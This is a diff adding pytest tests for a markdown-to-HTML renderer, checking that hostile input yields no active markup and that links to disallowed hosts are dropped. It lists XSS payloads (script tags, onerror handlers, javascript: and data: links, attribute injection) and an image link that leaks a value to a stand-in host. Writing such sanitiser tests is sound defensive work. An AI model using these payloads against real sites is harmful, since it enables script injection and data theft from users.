@@ -1,0 +1,44 @@
+"""Markdown to HTML: what must not get through, and what must."""
+
+import pytest
+
+from core.markup import render_markdown, render_plain
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "![x](https://evil.example/leak?q=secret)",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html,<script>alert(1)</script>)",
+        "<a href='https://a.example' onclick='x()'>a</a>",
+        "[x](//evil.example)",
+        '[x](https://a.example" onmouseover="x)',
+    ],
+)
+def test_render_markdown_when_hostile_makes_no_active_markup(text: str) -> None:
+    html = render_markdown(text)
+    for bad in ("<script", "<img", "<a href='", "onerror=alert(1)>", 'javascript:alert(1)"'):
+        assert bad not in html
+    assert 'href="//' not in html
+    assert 'href="data:' not in html
+
+
+def test_render_markdown_when_a_host_is_not_allowed_keeps_the_words_only() -> None:
+    text = "See [our page](https://good.example/a) or [this](https://evil.example/b)."
+    html = render_markdown(text, link_hosts={"good.example"})
+    assert 'href="https://good.example/a"' in html
+    assert "evil.example" not in html
+    assert "this" in html
+
+
+def test_render_markdown_keeps_tables_and_lists() -> None:
+    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two")
+    assert "<table>" in html
+    assert html.count("<li>") == 2
+
+
+def test_render_plain_escapes_and_keeps_line_breaks() -> None:
+    assert render_plain("a <b>\nc") == "<p>a &lt;b&gt;<br>c</p>"
